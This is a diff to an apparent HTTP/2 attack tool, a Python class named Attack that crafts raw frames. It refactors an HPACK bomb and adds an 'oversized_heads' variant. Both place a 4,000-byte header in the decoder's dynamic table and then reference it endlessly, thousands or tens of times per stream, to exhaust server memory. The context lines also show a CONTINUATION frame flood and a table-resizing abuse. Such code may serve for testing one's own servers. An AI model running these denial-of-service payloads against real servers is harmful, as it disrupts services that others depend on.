@@ -85,12 +85,22 @@ class Attack:
         yield frame(HEADERS, 0, 1, self.block)
         yield from self.forever(lambda: frame(CONTINUATION, 0, 1, literal("name", "v" * 100)))
 
+    def large(self):
+        """A request whose field of 4,000 bytes stays in the dynamic table (index 62)."""
+        return frame(HEADERS, END_HEADERS, next(self.ids), self.block + b"\x40\x01n" + b"\x7f\xa1\x1e" + b"v" * 4000)
+
+    def named(self, times):
+        return frame(HEADERS, END_HEADERS, next(self.ids), self.block + b"\xbe" * times)
+
     def hpack_bomb(self):
-        """One large field in the dynamic table (index 62), named thousands of times a stream."""
-        large = b"\x40\x01n" + b"\x7f\xa1\x1e" + b"v" * 4000
-        stream, _ = self.connect()
-        yield frame(HEADERS, END_HEADERS, stream, self.block + large)
-        yield from self.forever(lambda: frame(HEADERS, END_HEADERS, next(self.ids), self.block + b"\xbe" * 2000))
+        """One large field, named thousands of times a stream."""
+        yield self.large()
+        yield from self.forever(lambda: self.named(2000))
+
+    def oversized_heads(self):
+        """Heads that are too large, but not so large that one of them ends it."""
+        yield self.large()
+        yield from self.forever(lambda: self.named(20))
 
     def table_sizes(self):
         """A dynamic table that is asked to be huge, then resized all the time."""
